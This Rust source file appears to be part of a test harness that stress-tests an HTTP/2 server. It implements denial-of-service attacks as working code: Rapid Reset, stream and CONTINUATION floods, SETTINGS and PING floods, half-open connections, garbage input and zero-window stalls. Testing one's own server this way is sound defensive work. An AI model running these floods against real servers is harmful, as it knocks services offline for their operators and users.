//! Attacks that no client library would lead.

use std::{io, net::SocketAddr, sync::atomic::Ordering::Relaxed, time::Duration};

use loiter_tests::siege::Attack;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time,
};

use super::{
    Count,
    frames::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GREETING, HEAD, HEADERS, PING,
        RST_STREAM, SETTINGS, another_header, frame, headers, question, settings_without_window,
    },
};

/// Streams that are begun in one write.
const STREAMS: u32 = 64;

/// One connection, until the agent closes it.
pub(super) async fn run(
    attack: Attack,
    address: SocketAddr,
    number: usize,
    count: &Count,
) -> io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    let mut attacker = Attacker {
        count,
        stream: &mut stream,
        next: 1,
    };
    match attack {
        Attack::HalfOpen => attacker.never_end(number).await,
        Attack::Garbage => attacker.garbage(number).await,
        Attack::ZeroWindow => attacker.take_nothing().await,
        _ => {
            attacker.greet().await?;
            loop {
                let more = attacker.more(attack);
                attacker.stream.write_all(&more).await?;
            }
        }
    }
}

struct Attacker<'a> {
    count: &'a Count,
    stream: &'a mut TcpStream,
    /// The number of the next stream.
    next: u32,
}

impl Attacker<'_> {
    async fn greet(&mut self) -> io::Result<()> {
        self.stream.write_all(GREETING).await?;
        self.stream.write_all(&frame(SETTINGS, 0, 0, &[])).await
    }

    /// The next bytes of a flood.
    fn more(&mut self, attack: Attack) -> Vec<u8> {
        let mut bytes = Vec::new();
        for turn in 0..STREAMS {
            self.count.fetch_add(1, Relaxed);
            bytes.extend(match attack {
                Attack::RapidReset => {
                    let stream = self.begin();
                    let mut both = frame(HEADERS, END_HEADERS, stream, &headers());
                    both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                    both
                }
                Attack::StreamFlood => {
                    let stream = self.begin();
                    let mut both = frame(HEADERS, END_HEADERS, stream, &headers());
                    both.extend(frame(DATA, 0, stream, &question()));
                    both
                }
                Attack::HugeHeaders => match turn {
                    0 => frame(HEADERS, 0, 1, &headers()),
                    _ => frame(CONTINUATION, 0, 1, &another_header(turn)),
                },
                Attack::SettingsFlood => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
                _ => frame(PING, 0, 0, &[7; 8]),
            });
        }
        bytes
    }

    fn begin(&mut self) -> u32 {
        let stream = self.next;
        self.next += 2;
        stream
    }

    /// Says a part of what it has to, or all but the end, and waits.
    async fn never_end(&mut self, number: usize) -> io::Result<()> {
        self.count.fetch_add(1, Relaxed);
        let mut beginning = GREETING.to_vec();
        beginning.extend(frame(SETTINGS, 0, 0, &[]));
        beginning.extend(frame(HEADERS, 0, 1, &headers()));
        let much = [0, 1, GREETING.len() - 1, GREETING.len(), beginning.len()][number % 5];
        self.stream.write_all(&beginning[..much]).await?;
        self.read().await
    }

    /// The same in every run.
    async fn garbage(&mut self, number: usize) -> io::Result<()> {
        if number.is_multiple_of(2) {
            self.greet().await?;
        }
        let seed = 0x9e37_79b9_7f4a_7c15 + self.count.fetch_add(1, Relaxed);
        // xorshift64
        let next = |random: &u64| {
            let mut random = *random;
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            Some(random)
        };
        let bytes: Vec<u8> = std::iter::successors(Some(seed), next)
            .map(|random| random as u8)
            .take(128 * 1024)
            .collect();
        self.stream.write_all(&bytes).await?;
        time::timeout(Duration::from_secs(5), self.read()).await?
    }

    /// Asks, answers pings as if it were there, and lets nothing be sent.
    async fn take_nothing(&mut self) -> io::Result<()> {
        self.stream.write_all(GREETING).await?;
        self.stream.write_all(&settings_without_window()).await?;
        for _ in 0..4 {
            self.count.fetch_add(1, Relaxed);
            let stream = self.begin();
            let mut request = frame(HEADERS, END_HEADERS, stream, &headers());
            request.extend(frame(DATA, END_STREAM, stream, &question()));
            self.stream.write_all(&request).await?;
        }
        loop {
            let mut head = [0; HEAD];
            self.stream.read_exact(&mut head).await?;
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            let mut payload = vec![0; length as usize];
            self.stream.read_exact(&mut payload).await?;
            match (head[3], head[4]) {
                (PING, 0) => {
                    self.stream
                        .write_all(&frame(PING, ACK, 0, &payload))
                        .await?
                }
                (SETTINGS, 0) => self.stream.write_all(&frame(SETTINGS, ACK, 0, &[])).await?,
                _ => {}
            }
        }
    }

    async fn read(&mut self) -> io::Result<()> {
        let mut bytes = [0; 1024];
        while self.stream.read(&mut bytes).await? > 0 {}
        Ok(())
    }
}
